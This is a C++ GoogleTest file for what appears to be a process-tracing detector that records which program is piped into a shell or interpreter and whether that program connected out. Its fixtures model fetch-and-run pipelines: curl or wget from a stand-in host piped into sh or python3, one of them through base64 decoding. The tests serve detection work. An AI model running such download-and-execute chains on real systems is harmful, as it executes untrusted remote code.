// Who is at the other end of a program's standard input, in the order in which shells lay pipes.
#include <gtest/gtest.h>

#include "record_reader.h"

namespace assay::testing {
namespace {

const std::vector<Field> kPipe = {Field::Image, Field::PipedFrom, Field::PipedFromConnected, Field::PipedTo};

std::string piped(const std::string& yaml_list) { return records(yaml_list, Category::stdio_pipe, kPipe); }

// As bash and gVisor do it, from a trace: the reader is executed before the writer connects.
TEST(Pipes, ShellThatIsFedByADownloaderIsToldWhenItConnects) {
  EXPECT_EQ(piped(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash, /run.sh], cwd: /}
- clone: {pid: 1, child_pid: 4, child_tid: 4}
- dup: {pid: 4, call: dup2, fd: 4, fd_path: "pipe:[1]", args: [4, 1], result: 1}
- clone: {pid: 1, child_pid: 5, child_tid: 5}
- exec: {pid: 4, path: /usr/bin/curl, argv: [curl, -s, "http://x.example/x.sh"]}
- dup: {pid: 5, call: dup2, fd: 3, fd_path: "pipe:[1]", args: [3, 0], result: 0}
- exec: {pid: 5, path: /usr/bin/dash, argv: [sh]}
- socket: {pid: 4, proto: tcp, args: [2, 1, 0], result: 5}
- connect: {pid: 4, fd: 5, proto: tcp, dst_addr: 203.0.113.5, dst_port: 80}
)"),
            "Image=/usr/bin/dash PipedFrom=/usr/bin/curl PipedFromConnected=false\n"
            "Image=/usr/bin/dash PipedFrom=/usr/bin/curl PipedFromConnected=true\n");
}

TEST(Pipes, ReaderMayBeExecutedFirst) {
  EXPECT_EQ(piped(R"(
- start: {pid: 1, path: /usr/bin/dash, argv: [sh, -c, "wget -O- x | python3"], cwd: /}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- clone: {pid: 1, child_pid: 3, child_tid: 3}
- dup: {pid: 3, call: dup2, fd: 3, fd_path: "pipe:[7]", args: [3, 0], result: 0}
- exec: {pid: 3, path: /usr/bin/python3.11, argv: [python3]}
- dup: {pid: 2, call: dup2, fd: 4, fd_path: "pipe:[7]", args: [4, 1], result: 1}
- exec: {pid: 2, path: /usr/bin/wget, argv: [wget, -O-, "http://x.example/x"]}
- connect: {pid: 2, fd: 5, proto: tcp, dst_addr: 203.0.113.5, dst_port: 80}
)"),
            "Image=/usr/bin/python3.11 PipedFrom=/usr/bin/dash PipedFromConnected=false\n"
            "Image=/usr/bin/python3.11 PipedFrom=/usr/bin/wget PipedFromConnected=false\n"
            "Image=/usr/bin/python3.11 PipedFrom=/usr/bin/wget PipedFromConnected=true\n");
}

TEST(Pipes, GoThroughWhatDecodesInBetween) {
  EXPECT_EQ(piped(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash], cwd: /}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- dup: {pid: 2, call: dup2, fd: 4, fd_path: "pipe:[1]", args: [4, 1], result: 1}
- exec: {pid: 2, path: /usr/bin/curl, argv: [curl, "http://x.example/x"]}
- connect: {pid: 2, fd: 5, proto: tcp, dst_addr: 203.0.113.5, dst_port: 80}
- clone: {pid: 1, child_pid: 3, child_tid: 3}
- dup: {pid: 3, call: dup2, fd: 3, fd_path: "pipe:[1]", args: [3, 0], result: 0}
- dup: {pid: 3, call: dup2, fd: 5, fd_path: "pipe:[2]", args: [5, 1], result: 1}
- exec: {pid: 3, path: /usr/bin/base64, argv: [base64, -d]}
- clone: {pid: 1, child_pid: 4, child_tid: 4}
- dup: {pid: 4, call: dup2, fd: 3, fd_path: "pipe:[2]", args: [3, 0], result: 0}
- exec: {pid: 4, path: /usr/bin/dash, argv: [sh]}
)"),
            "Image=/usr/bin/base64 PipedFrom=/usr/bin/curl PipedFromConnected=true\n"
            "Image=/usr/bin/dash PipedFrom=/usr/bin/base64,/usr/bin/curl PipedFromConnected=true\n");
}

// Neither a file, nor what the pipe was before, nor the pipe of a process of the past.
TEST(Pipes, EndWhereSomethingElseTakesTheirPlace) {
  EXPECT_EQ(piped(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash], cwd: /}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- dup: {pid: 2, call: dup2, fd: 4, fd_path: "pipe:[1]", args: [4, 1], result: 1}
- dup: {pid: 2, call: dup2, fd: 5, fd_path: /tmp/out, args: [5, 1], result: 1}
- exec: {pid: 2, path: /usr/bin/curl, argv: [curl]}
- clone: {pid: 1, child_pid: 3, child_tid: 3}
- dup: {pid: 3, call: dup2, fd: 3, fd_path: "pipe:[1]", args: [3, 0], result: 0}
- exec: {pid: 3, path: /usr/bin/dash, argv: [sh]}
)"),
            "");
}

TEST(Pipes, ProgramThatFeedsItsOwnChildIsItsSource) {
  EXPECT_EQ(piped(R"(
- start: {pid: 1, path: /usr/bin/python3.11, argv: [python3, /app.py], cwd: /}
- connect: {pid: 1, fd: 5, proto: tcp, dst_addr: 203.0.113.5, dst_port: 80}
- syscall: {pid: 1, call: pipe2, args: [6, 7, 524288]}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- dup: {pid: 2, call: dup2, fd: 6, fd_path: "pipe:[3]", args: [6, 0], result: 0}
- exec: {pid: 2, path: /usr/bin/dash, argv: [sh]}
)"),
            "Image=/usr/bin/dash PipedFrom=/usr/bin/python3.11 PipedFromConnected=true\n");
}

TEST(Pipes, NodeFeedsItsChildrenThroughPairsOfSockets) {
  EXPECT_EQ(piped(R"(
- start: {pid: 1, path: /usr/bin/node, argv: [node, /app.js], cwd: /}
- connect: {pid: 1, fd: 17, proto: tcp, dst_addr: 203.0.113.5, dst_port: 80}
- syscall: {pid: 1, call: socketpair, args: [20, 21, 524289, 1]}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- dup: {pid: 2, call: dup2, fd: 21, fd_path: "socket:[9]", args: [21, 0], result: 0}
- exec: {pid: 2, path: /usr/bin/dash, argv: [sh]}
)"),
            "Image=/usr/bin/dash PipedFrom=/usr/bin/node PipedFromConnected=true\n");
}

TEST(Pipes, ProcessCreationKnowsWhatIsKnownByThen) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash], cwd: /}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- dup: {pid: 2, call: dup2, fd: 4, fd_path: "pipe:[1]", args: [4, 1], result: 1}
- clone: {pid: 1, child_pid: 3, child_tid: 3}
- dup: {pid: 3, call: dup2, fd: 3, fd_path: "pipe:[1]", args: [3, 0], result: 0}
- exec: {pid: 3, path: /usr/bin/grep, argv: [grep, x]}
- exec: {pid: 2, path: /usr/bin/cat, argv: [cat, /etc/motd]}
)",
                    Category::process_creation, kPipe),
            "Image=/usr/bin/bash\n"
            "Image=/usr/bin/grep PipedFrom=/usr/bin/bash PipedFromConnected=false\n"
            "Image=/usr/bin/cat PipedTo=/usr/bin/grep\n");
}

TEST(Pipes, AreBounded) {
  std::string text = "- start: {pid: 1, path: /bin/x, argv: [x], cwd: /}\n";
  for (int i = 0; i < 300; ++i) {
    std::string n = std::to_string(i);
    text += "- dup: {pid: 1, call: dup2, fd: 900, fd_path: \"pipe:[" + n + "]\", args: [900, " + n +
            "], result: " + n + "}\n";
  }
  ProcessTree tree;
  for (const auto& event : trace(text)) tree.add(event);
  EXPECT_EQ(tree.at(0).pipes.size(), ProcessTree::kMaxPipeFds);
}

}  // namespace
}  // namespace assay::testing
